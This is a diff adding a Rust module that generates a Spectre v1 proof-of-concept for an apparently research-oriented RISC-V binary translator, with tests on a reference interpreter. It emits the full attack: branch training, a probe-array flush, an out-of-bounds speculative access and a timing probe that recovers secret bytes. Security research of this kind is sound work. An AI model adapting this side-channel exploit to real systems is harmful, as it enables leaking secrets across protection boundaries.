@@ -1,0 +1,177 @@
+//! Spectre v1 analogue: speculation introduced by trace-based scheduling.
+//!
+//! The victim is the classic bounds-checked double access of the paper's
+//! Figure 1:
+//!
+//! ```c
+//! if (index < size) {
+//!     a = buffer[index];
+//!     b = probe[a * STRIDE];
+//! }
+//! ```
+//!
+//! The attacker first calls the victim many times with in-bounds indexes.
+//! This (a) makes the victim block hot, so the DBT engine builds an
+//! optimised superblock, and (b) biases the bounds-check branch, so the
+//! trace follows the `then` path and the scheduler hoists both loads above
+//! the side exit. The attacker then flushes the probe array, calls the
+//! victim once with `index = &secret - &buffer`, and times a reload of
+//! every probe entry: the single fast entry is the secret byte.
+
+use crate::probe::{alloc_probe, emit_flush_probe, emit_probe_loop, PROBE_SHIFT};
+use dbt_riscv::{AsmError, Program, Reg};
+
+/// Number of in-bounds training calls per leaked byte. Must exceed the DBT
+/// hot threshold so the optimised (speculating) translation exists before
+/// the malicious call.
+pub const TRAINING_CALLS: i64 = 24;
+
+/// Size of the victim's legitimate buffer.
+pub const BUFFER_SIZE: u64 = 16;
+
+/// Builds the complete Spectre v1 attack program around `secret`.
+///
+/// The program leaks `secret.len()` bytes into the guest buffer named
+/// `"recovered"`, one outer iteration per byte.
+///
+/// # Errors
+///
+/// Returns an [`AsmError`] if the generated program fails to assemble
+/// (cannot happen for reasonable secret lengths).
+pub fn build(secret: &[u8]) -> Result<Program, AsmError> {
+    let mut asm = Assemblerish::new(secret);
+    asm.emit();
+    asm.asm.assemble()
+}
+
+/// Internal builder keeping the shared allocations together.
+struct Assemblerish {
+    asm: dbt_riscv::Assembler,
+    secret_len: i64,
+    buffer: dbt_riscv::DataRef,
+    size_var: dbt_riscv::DataRef,
+    secret: dbt_riscv::DataRef,
+    recovered: dbt_riscv::DataRef,
+    probe: dbt_riscv::DataRef,
+}
+
+impl Assemblerish {
+    fn new(secret: &[u8]) -> Assemblerish {
+        let mut asm = dbt_riscv::Assembler::new();
+        // Layout: buffer first, then the secret right behind it so the
+        // malicious index is a small positive offset.
+        let buffer = asm.alloc_data("buffer", BUFFER_SIZE);
+        let size_var = asm.alloc_data_u64("size", &[BUFFER_SIZE]);
+        let secret_ref = asm.alloc_data_init("secret", secret);
+        let recovered = asm.alloc_data("recovered", secret.len() as u64);
+        let probe = alloc_probe(&mut asm);
+        Assemblerish {
+            asm,
+            secret_len: secret.len() as i64,
+            buffer,
+            size_var,
+            secret: secret_ref,
+            recovered,
+            probe,
+        }
+    }
+
+    /// The victim function. Argument: `A0` = index. Clobbers `T0`..`T4`.
+    fn emit_victim(&mut self, victim: dbt_riscv::Label) {
+        let asm = &mut self.asm;
+        let skip = asm.new_label();
+        asm.bind(victim);
+        asm.la(Reg::T0, self.size_var);
+        asm.ld(Reg::T0, Reg::T0, 0);
+        asm.bgeu(Reg::A0, Reg::T0, skip);
+        // then-block: the two accesses that leak under speculation.
+        asm.la(Reg::T1, self.buffer);
+        asm.add(Reg::T1, Reg::T1, Reg::A0);
+        asm.lbu(Reg::T2, Reg::T1, 0);
+        asm.slli(Reg::T2, Reg::T2, PROBE_SHIFT);
+        asm.la(Reg::T3, self.probe);
+        asm.add(Reg::T3, Reg::T3, Reg::T2);
+        asm.lbu(Reg::T4, Reg::T3, 0);
+        asm.bind(skip);
+        asm.ret();
+    }
+
+    fn emit(&mut self) {
+        let victim = self.asm.new_label();
+        let main = self.asm.new_label();
+        // Jump over the victim body to main.
+        self.asm.jump(main);
+        self.emit_victim(victim);
+
+        let asm = &mut self.asm;
+        asm.bind(main);
+        // S0 = secret byte index, S1 = secret_len.
+        asm.li(Reg::S0, 0);
+        asm.li(Reg::S1, self.secret_len);
+        let outer = asm.new_label();
+        asm.bind(outer);
+
+        // --- training: in-bounds calls bias the branch and heat the block.
+        {
+            let head = asm.new_label();
+            asm.li(Reg::S6, 0);
+            asm.bind(head);
+            asm.andi(Reg::A0, Reg::S6, (BUFFER_SIZE - 1) as i64);
+            asm.call(victim);
+            asm.addi(Reg::S6, Reg::S6, 1);
+            asm.li(Reg::T0, TRAINING_CALLS);
+            asm.blt(Reg::S6, Reg::T0, head);
+        }
+
+        // --- flush the probe array.
+        emit_flush_probe(asm, self.probe);
+
+        // --- the malicious call: index = &secret + s - &buffer.
+        asm.li(Reg::T0, self.secret.addr() as i64);
+        asm.add(Reg::T0, Reg::T0, Reg::S0);
+        asm.li(Reg::T1, self.buffer.addr() as i64);
+        asm.sub(Reg::A0, Reg::T0, Reg::T1);
+        asm.call(victim);
+
+        // --- reload the probe array and record the fastest entry.
+        emit_probe_loop(asm, self.probe);
+        asm.la(Reg::T0, self.recovered);
+        asm.add(Reg::T0, Reg::T0, Reg::S0);
+        asm.sb(Reg::S4, Reg::T0, 0);
+
+        asm.addi(Reg::S0, Reg::S0, 1);
+        asm.blt(Reg::S0, Reg::S1, outer);
+        asm.ecall();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use dbt_riscv::{ExitReason, Interpreter};
+
+    #[test]
+    fn program_assembles_and_terminates_on_the_reference_machine() {
+        let secret = b"AB";
+        let program = build(secret).unwrap();
+        assert!(program.symbol("recovered").is_some());
+        assert!(program.symbol("probe").is_some());
+        let mut interp = Interpreter::new(&program);
+        // The reference machine has no cache, so nothing is leaked — but the
+        // program must run to completion without faulting.
+        assert_eq!(interp.run(50_000_000).unwrap(), ExitReason::Ecall);
+    }
+
+    #[test]
+    fn architectural_semantics_do_not_expose_the_secret() {
+        let secret = b"Z";
+        let program = build(secret).unwrap();
+        let mut interp = Interpreter::new(&program);
+        interp.run(50_000_000).unwrap();
+        let recovered = interp
+            .memory()
+            .load_u8(program.symbol("recovered").unwrap())
+            .unwrap();
+        assert_ne!(recovered, b'Z', "the reference machine must not leak");
+    }
+}
